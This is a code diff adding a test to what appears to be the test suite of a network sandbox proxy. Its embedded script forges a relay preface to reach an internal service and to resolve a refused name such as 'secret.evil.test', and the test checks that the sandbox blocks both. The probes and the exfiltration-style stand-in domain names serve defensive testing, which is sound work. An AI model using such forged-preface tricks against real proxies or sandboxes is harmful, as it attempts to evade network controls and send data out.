@@ -229,6 +229,57 @@ def test_connections_in_a_row_each_reach_the_host(cordon, net):
     assert sorted(q["path"] for q in net.web.requests) == sorted(f"/burst{i}" for i in range(n))
 
 
+FORGE = r"""
+import json, os, socket, struct, sys, urllib.parse
+proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
+MAGIC = b"\0cordon-relay1"  # common/relay_wire.h
+
+def talk(data, want=None):
+    s = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
+    s.sendall(data)
+    got = b""
+    try:
+        while want is None or len(got) < want:
+            d = s.recv(65536)
+            if not d:
+                break
+            got += d
+    except OSError:
+        pass
+    return got
+
+port = int(sys.argv[1])
+# A connection "to" the internal service's address, as a relay would open it.
+head = MAGIC + b"T" + socket.inet_aton("127.0.0.1") + struct.pack("!H", port)
+web = talk(head + f"GET /forged HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
+# A DNS stream asking for a name no rule allows.
+q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x06secret\x04evil\x04test\x00"
+q += struct.pack("!HH", 1, 1)
+a = talk(MAGIC + b"D" + struct.pack("!H", len(q)) + q, want=2 + 12)
+# Where no relay was agreed the gateway refuses the head as HTTP: no DNS at all.
+print(json.dumps({"web": web[:12].decode("latin-1"),
+                  "dns": a[:12].decode("latin-1") if a.startswith(b"HTTP/") else
+                  a[5] & 0xf if len(a) >= 6 else None}))
+"""
+
+
+def test_forged_relay_preface_gets_nothing_more(cordon, net):
+    """The command opens the proxy port itself with a relay's preface (where
+    a level relays, the gateway takes them there): one naming the internal
+    service's address, one a DNS stream asking for a refused name. It gets
+    what a connection to that address or that query gets: a reset, NXDOMAIN
+    or nothing at all; the internal service and the nameserver see nothing."""
+    (net.dir / "forge.py").write_text(FORGE)
+    os.chmod(net.dir / "forge.py", 0o644)
+    r = cordon.run(["python3", f"{EG}/forge.py", str(net.internal.port)], *net.opts())
+    assert r.status == 0, r
+    out = json.loads(r.out)
+    assert not out["web"].startswith("HTTP/1.1 2"), out
+    assert out["dns"] in (None, 3, "HTTP/1.1 400"), out  # NXDOMAIN, or refused outright
+    assert net.dns.seen == []
+    assert all(s.count() == 0 for s in net.servers())
+
+
 def test_refused_name_never_leaves_the_sandbox(cordon, net):
     names = ["secret-payload.evil.test", "agvsbg8.exfil.test", f"x.{NAME}", "localhost.test"]
     out, r = steps(cordon, net, [["query", n] for n in names] + [["query", "other.test", 28]])
